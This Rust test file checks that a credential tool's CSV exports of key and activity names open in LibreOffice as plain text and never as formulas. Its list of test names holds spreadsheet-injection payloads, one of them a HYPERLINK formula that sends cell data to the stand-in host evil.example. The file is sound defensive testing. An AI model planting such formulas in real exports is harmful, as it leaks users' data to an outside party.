//! What is exported as a table, opened in a spreadsheet as people have it: whatever a name begins with, it is text there.

use std::{fs, path::Path, process::Command};

use anyhow::{Context, Result, ensure};
use keybearer_core::{
    activity::{self, Activity, Sort},
    credential::CredentialKind,
    export::{ExportFormat, export},
    key::{Key, KeyId, KeyStatus},
    words,
};
use keybearer_support::skipped::skip;
use time::OffsetDateTime;

/// What a spreadsheet would take for a formula, for a number, or for two cells.
const NAMES: [&str; 14] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "=1+1\",\"=2+2",
    "+49 30 1234",
    "-5",
    "＝1+1",
    "Plain",
];

/// The cells of a table, as LibreOffice has them: its type, its formula, where it is one, and its text.
struct Cell {
    kind: String,
    formula: Option<String>,
    text: String,
}

/// What a table is in LibreOffice, row by row.
fn opened(folder: &Path, csv: &[u8]) -> Result<Vec<Vec<Cell>>> {
    let file = folder.join("table.csv");
    fs::write(&file, csv)?;
    let profile = format!("-env:UserInstallation=file://{}", folder.join("profile").display());
    let mut soffice = Command::new("soffice");
    // With commas and in UTF-8, as what is saved is, from the first line on.
    soffice.args([profile.as_str(), "--headless", "--infilter=CSV:44,34,UTF-8,1", "--convert-to", "fods", "--outdir"]);
    let converted = soffice.arg(folder).arg(&file).output()?;
    ensure!(converted.status.success(), "{}", String::from_utf8_lossy(&converted.stderr));
    let xml = fs::read_to_string(folder.join("table.fods")).context("it was converted")?;
    let rows = xml.split("<table:table-row").skip(1);
    Ok(rows.map(|row| row.split("<table:table-cell").skip(1).map(cell).collect()).collect())
}

fn cell(xml: &str) -> Cell {
    let (head, body) = xml.split_once('>').unwrap_or((xml, ""));
    let attribute = |name: &str| {
        let (_, rest) = head.split_once(&format!("{name}=\""))?;
        rest.split_once('"').map(|(value, _)| value.to_owned())
    };
    let body = body.split("</table:table-cell>").next().unwrap_or_default();
    let paragraphs = body.split("<text:p>").skip(1).map(|each| each.split("</text:p>").next().unwrap_or_default());
    let plain = |text: &str| {
        let text = text.replace("<text:s/>", " ").replace("<text:tab/>", "\t");
        text.replace("&quot;", "\"")
            .replace("&apos;", "'")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&")
    };
    Cell {
        kind: attribute("office:value-type").unwrap_or_default(),
        formula: attribute("table:formula"),
        text: paragraphs.map(plain).collect::<Vec<_>>().join("\n"),
    }
}

/// Holds that each of these names is text in its column, and the very name with what keeps it text before it.
fn hold(csv: &[u8], column: usize) -> Result<()> {
    let folder = tempfile::tempdir()?;
    let rows = opened(folder.path(), csv)?;
    ensure!(rows.len() > NAMES.len(), "{} rows", rows.len());
    for (row, name) in rows.iter().skip(1).zip(NAMES) {
        ensure!(row.iter().all(|cell| cell.formula.is_none()), "{name:?} is a formula");
        let cell = row.get(column).context("its cell")?;
        ensure!(cell.kind == "string", "{name:?} is {}", cell.kind);
        // LibreOffice takes a carriage return for an end of line.
        let wanted = name.replace('\r', "\n");
        let wanted = if name == "Plain" { wanted } else { format!("'{wanted}") };
        ensure!(cell.text == wanted, "{name:?} is {:?}", cell.text);
    }
    Ok(())
}

fn is_installed() -> bool {
    Command::new("soffice").arg("--version").output().is_ok_and(|version| version.status.success())
}

#[test]
fn no_name_of_the_list_is_a_formula_in_a_spreadsheet() -> Result<()> {
    if !is_installed() {
        return skip("LibreOffice is not installed; ./setup test brings it");
    }
    let key = |name: &str| Key {
        name: name.to_owned(),
        ..Key::of_id(CredentialKind::ServiceAccount, KeyId("us-1".to_owned()), KeyStatus::Active)
    };
    hold(&export(ExportFormat::Csv, &NAMES.map(key), &[], &[]), 2)
}

#[test]
fn no_name_of_the_activity_is_a_formula_in_a_spreadsheet() -> Result<()> {
    if !is_installed() {
        return skip("LibreOffice is not installed; ./setup test brings it");
    }
    let activity = |name: &str| Activity {
        at: OffsetDateTime::UNIX_EPOCH,
        sort: Sort::Changed,
        what: words::happened_rename(name, "done"),
        kind: Some(CredentialKind::ServiceAccount),
        name: name.to_owned(),
        id: None,
        account: name.to_owned(),
        base: String::new(),
        organization: Some(name.to_owned()),
        place: Some(name.to_owned()),
        until: None,
    };
    let all = NAMES.map(activity);
    hold(&activity::export(ExportFormat::Csv, all.iter()), 4)
}
